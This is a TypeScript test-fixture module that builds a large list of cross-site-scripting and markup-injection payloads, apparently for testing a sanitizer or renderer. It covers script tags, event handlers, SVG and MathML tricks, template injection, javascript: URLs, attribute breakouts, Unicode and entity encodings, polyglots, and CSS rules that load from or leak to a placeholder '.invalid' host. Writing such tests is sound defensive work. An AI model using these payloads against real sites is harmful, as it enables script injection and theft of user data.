/**
 * What somebody might send in the hope that it is taken for markup: a few families, and all that can be made of them.
 *
 * Each calls `ran()`, asks somebody else for something, or leaves an element behind that we never make. None of them
 * is anything but text to us. The names end in `.invalid`, which is nobody (RFC 2606).
 */

export interface Payload {
  readonly family: string;
  readonly text: string;
}

const ELSEWHERE = "//elsewhere.invalid";

const each = <T, U>(all: readonly T[], make: (one: T) => readonly U[]): U[] => all.flatMap(make);

/** Each way in which a script is named, spelt, closed, and hidden. */
function scripts(): string[] {
  const spelt = ["script", "SCRIPT", "ScRiPt", "script ", "script/x", "script\t", "script\n"];
  const body = ["ran()", "ran``", "top['ran']()", "/**/ran()//", "<!--\nran()", "setTimeout('ran()')"];
  return [
    ...each(spelt, (tag) => body.map((code) => `<${tag}>${code}</${tag.trim().split("/")[0]}>`)),
    ...each(["src", "SRC", "src "], (name) => [
      `<script ${name}=${ELSEWHERE}/x.js></script>`,
      `<script type=module ${name}="${ELSEWHERE}/x.js"></script>`,
      `<script ${name}=data:,ran()></script>`,
    ]),
    "<script>ran()",
    "<<script>ran()//<</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<script x>ran()</script x>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
  ];
}

/** Elements that speak by themselves, and what makes them. */
function handlers(): string[] {
  const speaking: readonly (readonly [string, string])[] = [
    ["img src=x", "onerror"],
    ["image src=x", "onerror"],
    ["svg", "onload"],
    ["body", "onload"],
    ["iframe", "onload"],
    ["details open", "ontoggle"],
    ["input autofocus", "onfocus"],
    ["select autofocus", "onfocus"],
    ["textarea autofocus", "onfocus"],
    ["button autofocus", "onfocus"],
    ["a id=x tabindex=0 autofocus", "onfocus"],
    ["video src=x", "onerror"],
    ["audio src=x", "onerror"],
    ["video><source src=x", "onerror"],
    ["object data=x", "onerror"],
    ["embed src=x", "onload"],
    ["link rel=stylesheet href=x", "onerror"],
    ["style", "onload"],
    ["marquee", "onstart"],
    ["p style='animation:rise 1ms'", "onanimationstart"],
    ["p style='transition:all 1ms'", "ontransitionend"],
    ["p popover", "onbeforetoggle"],
    ["b", "onpointerover"],
    ["xss contenteditable", "onbeforeinput"],
  ];
  const said = ["ran()", "'ran()'", '"ran()"', "`${ran()}`", "&#114;an()", "ran&lpar;&rpar;", "\\u0072an()"];
  const more = ["ran``", "ran/**/()", "ran?.()"];
  return [
    ...each(speaking, ([tag, event]) => [...said, ...more].map((code) => `<${tag} ${event}=${code}>`)),
    ...each(["/", "\t", "\n", "\f", "/x/", "  "], (gap) => [
      `<img${gap}src=x${gap}onerror=ran()>`,
      `<svg${gap}onload=ran()>`,
    ]),
    ...each(["onError", "ONERROR", "onerror ", "onerror\t", "x onerror"], (event) => [
      `<img src=x ${event}=ran()>`,
    ]),
  ];
}

/** SVG and MathML, in which other rules hold. */
function foreign(): string[] {
  const inside = [
    "<script>ran()</script>",
    "<script href=data:,ran() />",
    "<animate onbegin=ran() attributeName=x dur=1s>",
    "<set onbegin=ran() attributeName=x>",
    "<a xlink:href=javascript:ran()><rect width=9 height=9 /></a>",
    "<use href=data:image/svg+xml,%3Csvg%20onload=ran()%3E#x />",
    "<foreignObject><img src=x onerror=ran()></foreignObject>",
    "<image href=x onerror=ran() />",
    "<style><img src=x onerror=ran()></style>",
    "<title><img src=x onerror=ran()></title>",
    "<desc></svg><img src=x onerror=ran()>",
    "<![CDATA[><img src=x onerror=ran()>]]>",
  ];
  return [
    ...inside.map((text) => `<svg>${text}</svg>`),
    ...inside.slice(0, 9).map((text) => `<math><mtext>${text}</mtext></math>`),
    "<math href=javascript:ran()>x</math>",
    "<math><mi xlink:href=javascript:ran()>x",
    "<math><mglyph><style><!--</style><img src=x onerror=ran()>",
    "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
  ];
}

/** What a template, a bundler or a server would fill in. */
function templates(): string[] {
  const code = ["ran()", "7*7", "constructor.constructor('ran()')()", "this.ran()"];
  const around: readonly (readonly [string, string])[] = [
    ["{{", "}}"],
    ["{", "}"],
    ["{@html '", "'}"],
    ["${", "}"],
    ["#{", "}"],
    ["<%= ", " %>"],
    ["[[", "]]"],
    ["{% ", " %}"],
    ["<?php ", " ?>"],
    ["{#await ", "}"],
  ];
  return each(around, ([open, close]) => code.map((inner) => open + inner + close));
}

/** Addresses that are scripts, and elements that go to them. */
function addresses(): string[] {
  const said = [
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    " javascript:ran()",
    "java\tscript:ran()",
    "javascript&colon;ran()",
    "&#106;avascript:ran()",
    "javascript://%0aran()",
    "data:text/html,<script>ran()</script>",
    "vbscript:ran()",
    `${ELSEWHERE}/`,
  ];
  const going = [
    (to: string) => to,
    (to: string) => `<a href="${to}">letter</a>`,
    (to: string) => `<iframe src="${to}"></iframe>`,
    (to: string) => `<form action="${to}"><button>open</button></form>`,
    (to: string) => `<object data="${to}"></object>`,
    (to: string) => `<meta http-equiv=refresh content="0;url=${to}">`,
    (to: string) => `<base href="${to}">`,
  ];
  return each(said, (to) => going.map((make) => make(to)));
}

/** What breaks out of where it was put. */
function breakouts(): string[] {
  const out = [
    `">`,
    `'>`,
    "`>",
    ">",
    `"/>`,
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</select>",
    "</template>",
    "</svg>",
    "*/",
  ];
  const then = ["<img src=x onerror=ran()>", "<script>ran()</script>"];
  return [
    ...each(out, (before) => then.map((after) => before + after)),
    ...each([`"`, `'`, "`", `" x="`], (quote) => [
      `${quote} onpointerover=ran() x=${quote}`,
      `${quote} autofocus onfocus=ran() x=${quote}`,
      `${quote};ran();${quote}`,
      `${quote}-ran()-${quote}`,
      `${quote}+ran()+${quote}`,
    ]),
  ];
}

/** Characters that turn, hide, join or end what stands around them. */
function characters(): string[] {
  const odd = ["\u0000", "\u0008", "\u001b[31m", "\u007f", "\u0085", "\u00ad", "\u200b", "\u200f", "\u202e"];
  const wide = ["\u2028", "\u2029", "\u2066", "\ufeff", "\ufffe", "\ud83d\ude00", "\u0301\u0301", "\ufdfa"];
  const inside = (at: string): string[] => [`<img src=x one${at}rror=ran()>`, `${at}<svg onload=ran()>${at}`];
  return [
    ...each([...odd, ...wide], inside),
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "\u2039script\u203aran()\u2039/script\u203a",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\u00bcscript\u00beran()\u00bc/script\u00be",
    "%3Cscript%3Eran()%3C/script%3E",
    "%253Cscript%253Eran()%253C/script%253E",
    "\\x3cscript\\x3eran()\\x3c/script\\x3e",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "Ze\u0301a\u0300\u0321\u0322\u0323\u0324\u0325\u0326\u0327 <b>x</b>",
  ];
}

/** Styles that fetch, hide or cover. */
function styles(): string[] {
  const rules = [
    `@import '${ELSEWHERE}/x.css';`,
    `body{background:url(${ELSEWHERE}/x.png)}`,
    `input[value^=a]{background:url(${ELSEWHERE}/a)}`,
    "*{display:none}",
    `@font-face{font-family:x;src:url(${ELSEWHERE}/x.woff)}`,
    "body{color:expression(ran())}",
  ];
  return [
    ...rules.flatMap((rule) => [`<style>${rule}</style>`, `</style><style>${rule}`, `<p style="${rule}">x`]),
    `<link rel=stylesheet href=${ELSEWHERE}/x.css>`,
    `<link rel=preload as=image href=${ELSEWHERE}/x.png>`,
    `<link rel=dns-prefetch href=${ELSEWHERE}>`,
    `<img src=${ELSEWHERE}/x.png>`,
    `<img srcset=${ELSEWHERE}/x.png>`,
    `<video poster=${ELSEWHERE}/x.png>`,
    `<table background=${ELSEWHERE}/x.png>`,
    `<div style=position:fixed;inset:0;z-index:99>`,
  ];
}

/** Entities: what was escaped once too little, or once too often. */
function entities(): string[] {
  const angles: readonly (readonly [string, string])[] = [
    ["&lt;", "&gt;"],
    ["&LT;", "&GT;"],
    ["&lt", "&gt"],
    ["&#60;", "&#62;"],
    ["&#x3c;", "&#x3E;"],
    ["&#0000060", "&#0000062"],
    ["&amp;lt;", "&amp;gt;"],
  ];
  return [
    ...each(angles, ([open, close]) => [
      `${open}script${close}ran()${open}/script${close}`,
      `${open}img src=x onerror=ran()${close}`,
      `${open}b${close}bold${open}/b${close}`,
    ]),
    "&nbsp;&copy;&#0;&#x110000;&bogus;",
    "&quot; onpointerover=&quot;ran()",
    "&NewLine;&Tab;&colon;&lpar;",
  ];
}

/** One text for many places at once. */
function polyglots(): string[] {
  const one = `"'--></style></script></title><svg onload=ran()>`;
  return [
    one,
    `javascript:/*${one}`,
    "\"'`><img src=x onerror=ran()>{{ran()}}${ran()}",
    "';ran()//\";ran()//--></script><img src=x onerror=ran()>",
    "<b><i><u><s><h1><table><tr><td><ul><li>",
    "</p></div></main></body></html><script>ran()</script>",
    "<!doctype html><html><body onload=ran()>",
    '<?xml version="1.0"?><x onload="ran()"/>',
    "<template><script>ran()</script></template>",
    "<x-ray><slot onslotchange=ran()></slot></x-ray>",
    "![x](javascript:ran()) [x](javascript:ran()) **bold** _it_ `code`",
    "https://elsewhere.invalid/ elsewhere.invalid mailto:a@elsewhere.invalid",
    "__proto__",
    "constructor",
    "toString",
    "undefined",
    "[object Object]",
  ];
}

function long(): string[] {
  return [
    "<img src=x onerror=ran()>".repeat(4000),
    "<b>".repeat(30_000),
    `<svg onload=ran() x="${"a".repeat(60_000)}">`,
    `${"\u202e".repeat(500)}<script>ran()</script>`,
    "x".repeat(100_000),
  ];
}

const FAMILIES = {
  scripts,
  handlers,
  foreign,
  templates,
  addresses,
  breakouts,
  characters,
  styles,
  entities,
  polyglots,
  long,
} as const;

export const PAYLOADS: readonly Payload[] = Object.entries(FAMILIES).flatMap(([family, make]) =>
  [...new Set(make())].map((text) => ({ family, text })),
);
